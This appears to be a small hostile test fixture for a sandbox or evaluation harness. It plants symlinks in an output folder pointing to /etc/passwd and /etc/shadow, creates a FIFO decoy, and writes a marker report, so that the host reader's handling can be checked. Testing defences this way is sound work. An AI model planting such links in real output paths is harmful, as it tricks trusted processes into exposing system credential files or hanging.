"""C6/E2 (backend part): plant symlinks and a FIFO in /out for the host reader."""
# ruff: noqa: SIM115, SIM105  (hostile one-shot programs: terse on purpose)

import json
import os

os.symlink("/etc/passwd", "/out/predictions.npy")
os.symlink("/etc/shadow", "/out/result.json")
os.mkfifo("/out/decoy.json")
json.dump({"planted": True}, open("/out/report.json", "w"))
